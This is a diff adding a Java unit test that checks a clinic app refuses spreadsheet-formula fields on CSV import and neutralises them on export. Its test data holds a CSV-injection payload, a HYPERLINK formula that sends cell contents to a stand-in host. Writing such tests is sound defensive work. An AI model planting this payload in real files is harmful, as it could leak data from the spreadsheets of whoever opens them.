@@ -147,6 +147,30 @@ class FlagServiceTest {
         assertThat(clinic.settings.get("clinic.interactions")).isEqualTo(before);
     }
 
+    /**
+     * A field a spreadsheet would run as a formula is refused by the import; one that another desk's login put into
+     * the clinic's setting (no import checked it) is exported inert, and the other lines as they were.
+     */
+    @Test
+    void interactionsThatASpreadsheetWouldRunAreRefusedOnImportAndExportedInert() throws Exception {
+        String shipped = flags.exportInteractions(doctor);
+        String hostile = "warfarin,aspirin,high,\"=HYPERLINK(\"\"http://x.example/\"\"&A1)\",@SUM(A1),-1+1";
+        Path file = dir.resolve("formula.csv");
+        Files.writeString(file, shipped + "\n" + hostile + "\n");
+        assertThatThrownBy(() -> flags.importInteractions(admin, file))
+                .isInstanceOfSatisfying(ValidationException.class, e -> assertThat(e.reason())
+                        .contains("field 4 starts with a character a spreadsheet runs as a formula"));
+        assertThat(clinic.settings).doesNotContainKey("clinic.interactions");
+
+        clinic.settings.put("clinic.interactions", shipped + "\n" + hostile + "\n");
+        String exported = flags.exportInteractions(doctor);
+        assertThat(exported).startsWith(shipped).contains(
+                "warfarin,aspirin,high,\"'=HYPERLINK(\"\"http://x.example/\"\"&A1)\",'@SUM(A1),'-1+1");
+        assertThat(exported.lines().filter(l -> !l.startsWith("#")).skip(1)
+                .map(l -> KnowledgeCsv.split(l, "export", 0)).flatMap(List::stream))
+                .noneMatch(org.clinicdesk.core.common.SpreadsheetText::runsAsFormula);
+    }
+
     @Test
     void aDesksOldInteractionsFileMovesIntoTheClinicOnceAndABrokenOneStays() {
         String shipped = flags.exportInteractions(doctor);
